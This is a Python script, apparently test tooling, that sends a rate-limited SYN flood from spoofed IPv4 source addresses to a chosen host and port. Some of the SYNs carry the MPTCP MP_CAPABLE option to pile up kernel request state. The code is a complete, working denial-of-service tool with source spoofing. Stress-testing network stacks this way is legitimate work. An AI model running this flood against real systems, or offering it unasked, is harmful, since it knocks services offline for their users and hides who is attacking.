#!/usr/bin/env python3
"""SYN flood for the network tests: TCP SYNs from spoofed sources that never answer, at a bounded rate.

synflood.py --target ADDR:PORT --sources CIDR [--count N] [--rate PPS] [--seconds S] [--mptcp-share F]

Sends N SYNs (default 100 000), at most PPS a second (default 20 000) and for at most S seconds (default
30), each from a random address of CIDR (IPv4; pick one the target has no route back to, so its SYN-ACKs go
nowhere and every SYN leaves a half-open request behind) and a random port. A share F of them (default
0.5) carry MP_CAPABLE, which makes the kernel create an MPTCP request (and a token) for each. Needs
CAP_NET_RAW. Prints one JSON line: {"sent": N, "seconds": S}. Standard library only.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

MP_CAPABLE_SYN = bytes([30, 4, 0x01, 0x01])  # kind 30, length 4, subtype 0 / version 1, flags H
MSS = bytes([2, 4, 0x05, 0xB4])  # MSS 1460


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(source, target, port, mptcp):
    """An IPv4 packet holding a TCP SYN from `source` (a random port) to `target`:`port`."""
    options = MSS + (MP_CAPABLE_SYN if mptcp else b"")
    offset = (20 + len(options)) // 4
    tcp = struct.pack(
        "!HHIIBBHHH", random.randint(1024, 65535), port, random.getrandbits(32), 0, offset << 4, 0x02, 64240, 0, 0
    ) + options
    pseudo = source.packed + target.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, source.packed,
        target.packed,
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", required=True, metavar="ADDR:PORT")
    parser.add_argument("--sources", required=True, metavar="CIDR")
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--rate", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--mptcp-share", type=float, default=0.5)
    args = parser.parse_args(argv)
    host, _, port = args.target.rpartition(":")
    target = ipaddress.IPv4Address(host)
    sources = ipaddress.IPv4Network(args.sources)
    first, size = int(sources.network_address), sources.num_addresses

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    started = time.monotonic()
    sent = 0
    batch = max(1, args.rate // 100)  # paced in slices of 10 ms
    while sent < args.count:
        now = time.monotonic() - started
        if now >= args.seconds:
            break
        ahead = sent / args.rate - now
        if ahead > 0:
            time.sleep(ahead)
        for _ in range(min(batch, args.count - sent)):
            source = ipaddress.IPv4Address(first + random.randrange(size))
            packet = syn_packet(source, target, int(port), random.random() < args.mptcp_share)
            sock.sendto(packet, (host, 0))
            sent += 1
    sock.close()
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 3)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
